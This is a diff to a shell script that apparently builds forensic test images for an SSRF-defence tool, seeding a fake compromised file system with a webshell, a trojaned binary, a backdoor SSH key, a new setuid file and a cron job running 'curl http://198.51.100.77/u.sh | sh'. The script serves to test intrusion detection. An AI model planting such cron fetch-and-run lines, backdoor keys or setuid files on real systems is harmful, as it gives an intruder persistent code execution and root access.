@@ -4,7 +4,7 @@
 # DIR/baseline.jsonl (`ssrfguard forensics baseline`), and DIR/victim.img,
 # the same file system after an intruder came in through the SSRF: a PHP
 # webshell in the web root, a modified binary, a new cron entry and an
-# extra authorized_keys line.  Needs mkfs.ext4 (e2fsprogs) and a build
+# extra authorized_keys line (and a new setuid file).  Needs mkfs.ext4 (e2fsprogs) and a build
 # (SSRFGUARD: the binary, default ./build/cli/ssrfguard).
 set -euo pipefail
 cd "$(dirname "$0")/.."
@@ -13,7 +13,7 @@ sg=${SSRFGUARD:-./build/cli/ssrfguard}
 work=$(mktemp -d "$out/tree-XXXXXX")
 trap 'rm -rf "$work"' EXIT
 root=$work/root
-mkdir -p "$root"/{etc/cron.d,etc/ssh,usr/bin,var/www/html,home/ec2-user/.ssh,tmp}
+mkdir -p "$root"/{etc/cron.d,etc/ssh,usr/bin,var/www/html,var/tmp,home/ec2-user/.ssh,tmp}
 printf 'root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n' \
   >"$root/etc/passwd"
 printf 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$root/etc/crontab"
@@ -42,7 +42,10 @@ printf '\n# trojaned: hides the miner\n' >>"$root/usr/bin/ps"
 echo '*/5 * * * * root curl -fsS http://198.51.100.77/u.sh | sh' >"$root/etc/cron.d/sysupdate"
 echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDintruderkeyintruderkeyintruderkey intruder' \
   >>"$root/home/ec2-user/.ssh/authorized_keys"
+cp /usr/bin/true "$root/var/tmp/.ICE-x"   # a way back to root
+chmod 4755 "$root/var/tmp/.ICE-x"
 touch -h -d '2026-12-04 03:12:00 UTC' "$root/var/www/html/.thumb.php" "$root/usr/bin/ps" \
   "$root/etc/cron.d/sysupdate" "$root/home/ec2-user/.ssh/authorized_keys" "$root/etc/cron.d" \
+  "$root/var/tmp/.ICE-x" "$root/var/tmp" \
   "$root/var/www/html" "$root/home/ec2-user/.ssh"
 mkfs.ext4 -q -F -L demo-root -E root_owner=0:0 -d "$root" "$out/victim.img" 16M >/dev/null
